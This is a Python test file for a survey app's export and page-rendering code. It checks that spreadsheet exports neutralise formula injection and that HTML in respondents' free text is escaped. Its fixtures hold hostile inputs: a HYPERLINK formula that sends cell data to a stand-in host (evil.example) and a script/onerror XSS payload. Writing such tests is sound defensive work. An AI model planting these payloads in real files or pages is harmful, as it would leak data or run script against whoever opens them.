"""Exports stay inert in spreadsheets, and open text stays text on the problem page and report."""

import csv
import io

import openpyxl
import pytest
from evaluate_helpers import Maker, elder

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1", "-1", "@SUM(A1:A9)"]
SCRIPT = '<script>alert("x")</script><img src=x onerror=alert(1)>'


@pytest.fixture
def hostile(db):
    """Responses whose open text would run as a formula or as HTML; one tab-led answer stored directly."""
    make = Maker(db)
    ids = [make.add(elder(suggestion=text)) for text in HOSTILE]
    ids.append(make.add(elder(suggestion=SCRIPT, services=["hotline"], hotline_unanswered="1")))
    # The respondent pages strip whitespace; an older import could still hold a leading tab.
    tabbed = make.add(elder())
    db.execute("insert into answers (response_id, question_id, value) values (?, 'suggestion', ?)",
                  [tabbed, "\tx"])
    db.conn.commit()
    return ids


def suggestions_from_csv(body):
    """The suggestion column of an exported CSV."""
    rows = list(csv.DictReader(io.StringIO(body.lstrip("\ufeff"))))
    return [row["suggestion"] for row in rows if row["suggestion"]]


def test_responses_csv_neutralises_formula_cells(hostile, login):
    response = login("evaluator").get("/evaluate/elder-satisfaction/export/responses.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    cells = suggestions_from_csv(response.get_data(as_text=True))
    expected = ["'" + text for text in HOSTILE] + [SCRIPT, "'\tx"]
    assert cells == expected
    assert all(not cell.startswith(("=", "+", "-", "@", "\t")) for cell in cells)


def test_responses_xlsx_holds_only_strings_never_formulas(hostile, login):
    response = login("evaluator").get("/evaluate/elder-satisfaction/export/responses.xlsx")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.data)).active
    header = [cell.value for cell in sheet[1]]
    column = header.index("suggestion")
    cells = [row[column] for row in sheet.iter_rows(min_row=2) if row[column].value]
    assert [c.value for c in cells] == ["'" + text for text in HOSTILE] + [SCRIPT, "'\tx"]
    assert all(c.data_type == "s" for c in cells)
    assert "overall_label" in header  # code and label columns


def test_measures_export_has_n_and_interval(hostile, login):
    client = login("evaluator")
    body = client.get("/evaluate/elder-satisfaction/export/measures.csv").get_data(as_text=True)
    rows = {row["measure"]: row for row in csv.DictReader(io.StringIO(body.lstrip("\ufeff")))}
    satisfaction = rows["satisfaction_rate"]
    assert (satisfaction["n"], satisfaction["successes"], satisfaction["value"]) == ("6", "6", "1.0")
    assert satisfaction["ci95_high"] == "1.0" and float(satisfaction["ci95_low"]) == pytest.approx(0.6097, abs=1e-4)
    workbook = openpyxl.load_workbook(io.BytesIO(client.get("/evaluate/elder-satisfaction/export/measures.xlsx").data))
    assert workbook.active["A1"].value == "measure"


@pytest.mark.parametrize("path", ["/evaluate/elder-satisfaction/problems", "/evaluate/elder-satisfaction/report"])
def test_html_in_open_text_is_escaped(hostile, login, path):
    page = login("evaluator").get(path)
    assert page.status_code == 200
    assert SCRIPT not in page.text
    assert "&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;" in page.text
    assert "1 人回答“是”" in page.text  # the unanswered-hotline count, with that respondent's text


def test_exports_are_audited(hostile, login, db):
    login("evaluator").get("/evaluate/elder-satisfaction/export/responses.csv").get_data()
    actions = [row[0] for row in db.execute("select action from audit_log")]
    assert "export_responses" in actions
